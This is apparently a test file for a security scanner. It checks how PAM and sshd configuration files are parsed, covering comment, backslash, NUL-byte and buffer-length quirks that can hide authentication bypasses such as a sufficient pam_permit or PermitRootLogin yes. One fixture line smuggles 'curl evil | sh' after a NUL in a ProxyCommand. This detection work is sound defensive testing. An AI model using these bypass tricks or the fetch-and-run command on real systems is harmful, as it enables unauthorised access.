import assert from "node:assert/strict";
import type { Finding } from "../../src/core/finding.ts";
import { auth } from "../../src/scanners/auth/index.ts";
import { parsePamText } from "../../src/scanners/auth/pam_config.ts";
import { assemblePamLines, pamWords, parsePamControl } from "../../src/scanners/auth/pam_line.ts";
import { globalValue, loadSshdConfig, parseSshdLine } from "../../src/scanners/ssh/sshd_config.ts";
import { sshdFileLines } from "../../src/scanners/ssh/sshd_line.ts";
import { Host } from "../../src/host/host.ts";
import { makeTree, runOne, type TreeEntry } from "../helpers.ts";
import { CLEAN } from "./accounts_fixtures.ts";

// Every expectation on PAM below was checked against libpam 1.5.2 (Debian 12) with pam_start_confdir and
// pam_authenticate given a wrong password, and every one on sshd against `sshd -T -f` of OpenSSH 9.2.

/** Debian 12's generated common-auth and an sshd stack that includes it. */
const COMMON_AUTH =
  "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_deny.so\n" +
  "auth\trequired\t\t\tpam_permit.so\n";
const PAM: Record<string, TreeEntry> = {
  "etc/pam.d/common-auth": COMMON_AUTH,
  "etc/pam.d/sshd": "@include common-auth\n",
  "etc/pam.d/other": "@include common-auth\n",
};

function ids(findings: Finding[], prefix: string): string[] {
  return findings.filter((f) => f.check_id.startsWith(prefix)).map((f) => `${f.severity} ${f.id}`).sort();
}

/** The lines libpam makes of `text`, as [first physical line, words]. */
function pamLines(text: string): [number, string[]][] {
  return assemblePamLines(new TextEncoder().encode(text)).lines.map((l) => [l.line, pamWords(l.text)]);
}

Deno.test("auth: a `#` after a trailing backslash ends the line for libpam, so the sufficient pam_permit after it is a bypass", async () => {
  // libpam's _pam_assemble_line cuts the line at its first `#` and looks no further: the backslash before it
  // is only an argument of pam_env, and the next line stands alone.
  using t = makeTree({
    ...CLEAN,
    ...PAM,
    "etc/pam.d/common-auth": "auth\toptional\tpam_env.so \\#\nauth\tsufficient\tpam_permit.so\n" +
      COMMON_AUTH,
  });
  const r = await runOne(auth, t.path);
  assert.deepEqual(ids(r.findings, "auth.pam.auth_bypass"), [
    "critical auth.pam.auth_bypass:/etc/pam.d/common-auth:2",
  ]);
});

Deno.test("auth: a real backslash continuation joins the next line, so the pam_permit it swallows grants nothing", async () => {
  // Without the `#`, libpam joins the lines: pam_permit.so is only an argument of pam_env. A backslash may be
  // followed by blanks, and blank or comment lines inside a continuation are skipped without ending it.
  using t = makeTree({
    ...CLEAN,
    ...PAM,
    "etc/pam.d/common-auth": "auth optional pam_env.so \\ \t\n\n# note\nauth sufficient pam_permit.so\n" +
      COMMON_AUTH,
  });
  const r = await runOne(auth, t.path);
  assert.deepEqual(ids(r.findings, "auth.pam."), []);
  assert.deepEqual(r.warnings, []);
});

Deno.test("pam lines: comments, continuations, NUL bytes and lines longer than libpam's 1024-byte buffer", () => {
  assert.deepEqual(
    pamLines("auth required pam_env.so \\\n  # c\n\n readenv=1 # x \\\nauth required pam_deny.so\n"),
    [
      [1, ["auth", "required", "pam_env.so", "readenv=1"]],
      [5, ["auth", "required", "pam_deny.so"]],
    ],
  );
  // A NUL ends the line (libpam looks at the buffer as a C string); the next physical line is a line of its own.
  assert.deepEqual(pamLines("auth required pam_deny.so\0 junk\nauth sufficient pam_permit.so\n"), [
    [1, ["auth", "required", "pam_deny.so"]],
    [2, ["auth", "sufficient", "pam_permit.so"]],
  ]);
  // fgets reads at most 1023 bytes: the rest of a longer comment line is read as a line, here a bypass.
  const long = "#" + "x".repeat(1022) + "auth sufficient pam_permit.so\nauth required pam_deny.so\n";
  assert.deepEqual(pamLines(long), [[1, ["auth", "sufficient", "pam_permit.so"]], [2, [
    "auth",
    "required",
    "pam_deny.so",
  ]]]);
  const p = parsePamText(long, "/etc/pam.d/t");
  assert.equal(p.statements.length, 2);
  assert.match(p.problems.join("\n"), /longer than libpam's 1023-byte read/);
  // A file that ends inside a continuation fails as a whole in libpam (PAM_ABORT).
  assert.equal(
    assemblePamLines(new TextEncoder().encode("auth sufficient pam_permit.so \\")).end,
    "incomplete",
  );
  // A continuation that fills the buffer to its last byte: glibc's fgets of size 1 reads nothing, forever.
  const full = "auth optional pam_env.so" + " ".repeat(998) + "\\\nauth required pam_deny.so\n";
  assert.equal(assemblePamLines(new TextEncoder().encode(full)).end, "loops");
  assert.match(parsePamText(full, "/etc/pam.d/t").problems.join("\n"), /loops forever/);
});

Deno.test("pam words and controls: brackets, bare value=action pairs and blanks around `=` as libpam reads them", () => {
  // _pam_StrTok: a `[` word runs to the first `]` (no nesting), loses its brackets, `\]` is a `]`; CRs are
  // ordinary characters (a CRLF file names the module "pam_permit.so\r", which does not load).
  assert.deepEqual(pamWords("auth [success=done] [pam_permit.so] [a\\]b c]d e\r"), [
    "auth",
    "success=done",
    "pam_permit.so",
    "a]b c",
    "d",
    "e\r",
  ]);
  assert.deepEqual(pamWords("x [a [b] c] [open"), ["x", "a [b", "c]", "open"]);
  // _pam_parse_control: blanks may stand around `=`, names match by prefix, case-sensitively; errors are all bad.
  assert.deepEqual([...parsePamControl("success = done default=ignore").actions], [["success", "done"], [
    "default",
    "ignore",
  ]]);
  assert.deepEqual([...parsePamControl("default=bad default=ok success=2").actions], [["default", "bad"], [
    "success",
    2,
  ]]);
  for (const bad of ["SUCCESS=done", "success=done bogus", "success=0", "success="]) {
    const c = parsePamControl(bad);
    assert.ok(c.error, bad);
    assert.deepEqual([...c.actions], [["default", "bad"]], bad);
  }
  // A bare `success=done` control (no brackets) is a value=action list to libpam: a bypass.
  const s = parsePamText("auth success=done pam_permit.so\nauth required pam_deny.so\n", "/etc/pam.d/t");
  const r = s.statements[0];
  assert.ok(
    "rule" in r && r.rule.control.kind === "actions" && r.rule.control.actions.get("success") === "done",
  );
});

Deno.test("sshd: a NUL byte drops the rest of its line and the newline, so `PermitRootLogin \\0` then `yes` is PermitRootLogin yes", async () => {
  // OpenSSH 9.2's load_server_config appends each getline line as a C string (strlen): what follows a NUL,
  // the newline included, is lost and the next line is glued on. `sshd -T` shows permitrootlogin yes.
  const config = "PermitRootLogin \0\nyes \0\n\n";
  assert.deepEqual(sshdFileLines(config), {
    lines: [{ line: 1, text: "PermitRootLogin yes " }],
    nulLines: [1, 2],
  });
  using t = makeTree({ ...CLEAN, ...PAM, "etc/ssh/sshd_config": config });
  const cfg = loadSshdConfig(new Host(t.path));
  assert.ok(cfg.ok);
  assert.deepEqual(globalValue(cfg.value, "permitrootlogin")?.args, ["yes"]);
  const r = await runOne(auth, t.path);
  assert.equal(ids(r.findings, "auth.sshd.permit_root_login").length, 1, JSON.stringify(ids(r.findings, "")));
  assert.ok(r.warnings.some((w) => /NUL byte: sshd ignores the rest/.test(w.detail ?? "")));
});

Deno.test("sshd: leading blanks and CRs are dropped per physical line; a config without NUL bytes reads line by line", () => {
  assert.deepEqual(sshdFileLines(" \t\rPermitRootLogin no\n#PermitRootLogin yes\nPort 22"), {
    lines: [{ line: 1, text: "PermitRootLogin no" }, { line: 2, text: "#PermitRootLogin yes" }, {
      line: 3,
      text: "Port 22",
    }],
    nulLines: [],
  });
  // ssh (readconf.c) parses each getline line up to its NUL too, without gluing: the line parser stops there.
  assert.deepEqual(parseSshdLine("ProxyCommand nc %h %p\0; curl evil | sh"), {
    keyword: "proxycommand",
    args: ["nc", "%h", "%p"],
  });
});
